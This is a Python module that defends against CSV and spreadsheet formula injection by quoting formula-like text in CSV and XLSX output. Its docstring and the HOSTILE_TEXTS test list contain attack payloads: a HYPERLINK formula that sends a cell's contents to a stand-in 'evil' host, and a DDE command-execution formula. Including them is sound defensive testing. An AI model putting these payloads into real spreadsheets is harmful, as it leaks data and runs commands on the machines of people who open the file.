"""Values made safe for the spreadsheets the project writes (XLSX through openpyxl, and CSV).

A text that a spreadsheet would read as a formula is written as text (CSV and formula
injection, OWASP): a person named ``=HYPERLINK("http://evil/"&A1,"点击")`` must appear as those
characters, not as a live link that sends the row away when clicked.

The rule, in one place (``formula_like``): a text whose first character is ``=``, ``+``, ``-``,
``@``, a tab or a carriage return (OWASP's list), or their full-width forms ``＝＋－＠``. Excel in
Chinese and Japanese locales accepts the full-width operators as typed input; whether it also
evaluates them on opening a file could not be checked here, so they are treated as unsafe at
the price of a quote in front of the rare text that starts with one. A text that is just a
decimal number (``-12``, ``+3.5``) is no formula and is left alone; numbers, dates and other
non-text values are never touched, so they stay numbers and dates in the sheet.

- CSV: a formula-like text gets a leading ``'`` (``csv_value``, ``csv_row``). The quote is visible
  in the file; that is the price of CSV, which has no cell types.
- XLSX: openpyxl turns every ``str`` that starts with ``=`` into a formula cell, and a ``str``
  such as ``#N/A`` into an error cell. ``xlsx_cell`` writes every text as a string cell, and a
  formula-like one also with Excel's quote-prefix style (so editing the cell does not turn it
  into a formula); the text itself is unchanged. Characters XML cannot carry (control
  characters) are replaced by U+FFFD, instead of openpyxl refusing the whole workbook.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

__all__ = ["HOSTILE_TEXTS", "csv_row", "csv_value", "formula_like", "xlsx_cell", "xlsx_row"]

_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")

# Texts that attack a spreadsheet, for the tests of every writer (beside the rule they attack).
HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil/"&A1,"点击")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "#N/A",
    "张\x01三",
)


def formula_like(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula."""
    return bool(text) and text[0] in _TRIGGERS and not _PLAIN_NUMBER.fullmatch(text)


def csv_value(value: Any) -> Any:
    """``value`` as it goes into a CSV cell: a formula-like text behind a ``'``; anything else
    (numbers included) as it is."""
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_value(v) for v in values]


def xlsx_cell(sheet: Any, value: Any, **style: Any) -> WriteOnlyCell:
    """A write-only cell of ``sheet`` holding ``value``; a text is always a string cell (never a
    formula or an error value). ``style`` sets cell attributes such as ``font`` or ``fill``."""
    if isinstance(value, str):
        text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
        cell = WriteOnlyCell(sheet, value=None)
        cell.value = text
        cell.data_type = "s"
        if formula_like(text):
            cell.quotePrefix = True
    else:
        cell = WriteOnlyCell(sheet, value=value)
    for name, setting in style.items():
        setattr(cell, name, setting)
    return cell


def xlsx_row(sheet: Any, values: Iterable[Any], **style: Any) -> list[WriteOnlyCell]:
    """One row of ``xlsx_cell``s, for ``sheet.append``."""
    return [xlsx_cell(sheet, v, **style) for v in values]
